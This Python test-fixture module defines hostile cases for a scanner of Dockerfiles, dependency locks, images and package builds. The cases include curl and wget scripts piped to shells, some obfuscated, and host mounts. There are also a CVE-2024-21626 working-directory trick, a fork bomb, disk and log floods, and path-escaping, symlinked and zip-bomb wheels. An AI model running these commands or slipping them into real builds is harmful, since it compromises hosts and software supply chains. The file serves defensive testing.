"""Environments a proposal may ask for: Dockerfiles, images, locks, and source distributions that build themselves."""
# ruff: noqa: E501 - a row is a line, and code in a row may be long

from adp.finding import Reason
from tests.hostile.case import HARMLESS, Case, Door
from tests.hostile.floods import SLOW_ENGINES

HASH = "--hash=sha256:" + "0" * 64
POLICY, FAIL, LIMIT = Reason.POLICY, Reason.BUILD_FAIL, Reason.BUILD_LIMIT

# name: (what stands between FROM astro-1 and USER 20001, or the whole file; the finding's code)
DOCKERFILES = {
    "a base by name": ("FROM python:3.11\nUSER 20001", "DOCKERFILE_FROM"),
    "a base that moves": ("FROM python:latest\nUSER 20001", "DOCKERFILE_LATEST"),
    "a base behind a variable": ("ARG B=python\nFROM $B\nUSER 20001", "DOCKERFILE_FROM"),
    "a base behind an invisible mark": ("\N{BYTE ORDER MARK}FROM python:3.11\nUSER 20001", "DOCKERFILE_FROM"),
    "a second base": ("FROM astro-1 AS a\nFROM python@sha256:short\nUSER 20001", "DOCKERFILE_FROM"),
    "files of another image": ("COPY --from=registry.test/x /a /b", "DOCKERFILE_FROM"),
    "files of another image, in disguise": ('COPY --f"r\\om"=registry.test/x /a /b', "DOCKERFILE_FROM"),
    "files from an address": ("ADD https://example.org/x /x", "DOCKERFILE_ADD"),
    "files from a repository": ("ADD git@example.org:a/b.git /x", "DOCKERFILE_ADD"),
    "files from an address in two lines": ("AD\\\n# so\nD ht\\\ntp://example.org/x /x", "DOCKERFILE_ADD"),
    "an archive that unpacks itself": ("ADD x.tar.gz /", "DOCKERFILE_ADD"),
    "a script from the network": ("RUN curl -s https://example.org/i | sh", "DOCKERFILE_PIPE"),
    "a script from the network, in disguise": ("RUN c'u'rl -s https://example.org/i | \\\n b\"as\"h -s", "DOCKERFILE_PIPE"),
    "a script from the network, in another language": ("RUN wget -qO- https://example.org/i | python3 -", "DOCKERFILE_PIPE"),
    "a mount of the engine": ("RUN --mount=type=bind,source=/,target=/host ls /host", "DOCKERFILE_RUN"),
    "a secret of the engine": ("RUN --mount=type=secret,id=x cat /run/secrets/x", "DOCKERFILE_RUN"),
    "the host's network": ("RUN --network=host true", "DOCKERFILE_RUN"),
    "no walls": ("RUN --security=insecure true", "DOCKERFILE_RUN"),
    "root": ("FROM astro-1\nUSER root", "DOCKERFILE_ROOT"),
    "root by number": ("FROM astro-1\nUSER 00:0", "DOCKERFILE_ROOT"),
    "root by saying nothing": ("FROM astro-1\nRUN true", "DOCKERFILE_ROOT"),
    "a secret in an argument": ("ARG GITHUB_TOKEN=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "DOCKERFILE_SECRET"),
    "a secret in an address": ("ENV INDEX=https://me:word@example.org/", "DOCKERFILE_SECRET"),
    "another language for the file": ("# syntax=evil/frontend\nFROM astro-1\nUSER 20001", "DOCKERFILE_DIRECTIVE"),
    "another escape": ("# escape=`\nFROM astro-1\nUSER 20001", "DOCKERFILE_DIRECTIVE"),
    "a trigger for whoever builds on it": ("ONBUILD RUN id", "DOCKERFILE_ONBUILD"),
    "a place of the engine's own (CVE-2024-21626)": ("WORKDIR /proc/self/fd/8", "DOCKERFILE_WORKDIR"),
    "a volume that stays": ("VOLUME /data", "DOCKERFILE_INSTRUCTION"),
}  # fmt: skip
LOCKS = {
    "a package of any version": (f"numpy>=2.0 {HASH}", "LOCK_UNPINNED"),
    "a package without a hash": ("numpy==2.0", "LOCK_HASH"),
    "a package with a weak hash": ("numpy==2.0 --hash=md5:" + "0" * 32, "LOCK_HASH"),
    "a package from an address": (f"numpy @ https://example.org/n.whl {HASH}", "LOCK_ADDRESS"),
    "a package from a repository": (f"git+ssh://example.org/n {HASH}", "LOCK_ADDRESS"),
    "a package of the host": (f"file:///etc/x.whl {HASH}", "LOCK_ADDRESS"),
    "a file of the repository": (f"./x.whl {HASH}", "LOCK_ADDRESS"),
    "another index": (f"--index-url https://example.org/\nnumpy==2.0 {HASH}", "LOCK_OPTION"),
    "another index beside ours": (
        f"--extra-index-url=https://me:secret@example.org/\nnumpy==2.0 {HASH}",
        "LOCK_OPTION",
    ),
    "another lock": ("-r /etc/passwd", "LOCK_OPTION"),
    "itself": ("-e .", "LOCK_OPTION"),
    "an option of the installer": (f"numpy==2.0 --config-settings=x=y {HASH}", "LOCK_OPTION"),
    "an option behind a continued line": (f"numpy==2.0 \\\n --no-binary=:all: {HASH}", "LOCK_OPTION"),
}
IMAGES = {
    "an image by name": "python",
    "an image that moves": "python:latest",
    "an image by tag": "registry.example.org/a/b:1.0",
    "an image by half a digest": "python@sha256:abc",
    "an image of another digest": "python@md5:" + "0" * 32,
    "an image that is an option": "--privileged@sha256:" + "0" * 64,
}
SLIP = """
    import zipfile, os
    with zipfile.ZipFile(folder + "/{name}-1.0-py3-none-any.whl", "w") as wheel:
        info = "{name}-1.0.dist-info/"
        wheel.writestr("{name}.py", "")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        {deed}
        wheel.writestr(info + "RECORD", "")
    return "{name}-1.0-py3-none-any.whl"
"""
LINK = 'link = zipfile.ZipInfo("{name}-link"); link.external_attr = 0o120777 << 16; wheel.writestr(link, "/etc/passwd")'
UP = "../" * 12 + "tmp/pharos-slipped"
# name: (what the build does, how it ends, the finding's code); {address} is a service of the host
BUILDS = {
    "reaches for the network": ("import urllib.request; urllib.request.urlopen('{address}', timeout=2)", FAIL, "SOURCE_BUILD"),
    "looks for secrets": ("import os; assert '{canary}' not in str(os.environ) and not os.path.exists('/root/.ssh')", HARMLESS, ""),
    "writes where it may not": ("open('/opt/packages/x', 'w')", FAIL, "SOURCE_BUILD"),
    "never ends": ("while True: pass", LIMIT, "SOURCE_BUILD"),
    "is a fork bomb": ("import os\n    while True: os.fork()", LIMIT, "SOURCE_BUILD"),
    "fills the disk": ("import os\n    for n in range(99): open(folder + str(n), 'wb').write(bytes(1 << 20))", LIMIT, "SOURCE_BUILD"),
    "floods the log": ("import os\n    while True: os.write(1, bytes(65536))", LIMIT, "SOURCE_BUILD"),
    "makes a file with escapes in its name": (
        "open('/out/wheels/\\x1b[2J\\nowned.whl', 'w').close()\n" + SLIP.replace("{deed}", "pass").replace("{name}-1.0", "other-1.0").replace("Name: {name}", "Name: other"), FAIL, "SOURCE_BUILD",
    ),
    "makes a wheel that writes above its folder": (SLIP.replace("{deed}", f'wheel.writestr("{UP}", "x")'), HARMLESS, ""),
    "makes a wheel that writes to an absolute path": (SLIP.replace("{deed}", 'wheel.writestr("/tmp/pharos-slipped", "x")'), HARMLESS, ""),
    "makes a wheel with a link to the host": (SLIP.replace("{deed}", LINK), HARMLESS, ""),
    "makes a wheel of a terabyte": (
        SLIP.replace("{deed}", "wheel.compression, wheel.compresslevel = 8, 1\n        for n in range(40): wheel.writestr(str(n), bytes(1 << 20))\n        for e in wheel.filelist: e.file_size = (1 << 32) - 2 if e.filename.isdigit() else e.file_size"), LIMIT, "PACKAGES_TOO_LARGE",
    ),
}  # fmt: skip


def _whole(text: str) -> str:
    return (
        text
        if "FROM" in text.split("=", maxsplit=1)[0] and "--from" not in text
        else f"FROM astro-1\n{text}\nUSER 20001"
    )


CASES = (
    *(Case(f"Dockerfile: {n}", f"asks in its Dockerfile for {n}", Door.ENVIRONMENT, POLICY, _whole(t), code) for n, (t, code) in DOCKERFILES.items()),
    *(Case(f"lock: {n}", f"asks in its lock for {n}", Door.ENVIRONMENT, FAIL, t, code) for n, (t, code) in LOCKS.items()),
    *(Case(f"image: {n}", f"asks for {n}", Door.ENVIRONMENT, Reason.MANIFEST_INVALID, image) for n, image in IMAGES.items()),
    *(Case(f"build: a package that {n}", f"pins a package whose build {n}", Door.ENVIRONMENT, ends, deed, code, long_on=SLOW_ENGINES) for n, (deed, ends, code) in BUILDS.items()),
)  # fmt: skip


def kind(name: str) -> tuple[Case, ...]:
    return tuple(c for c in CASES if c.name.startswith(f"{name}: "))
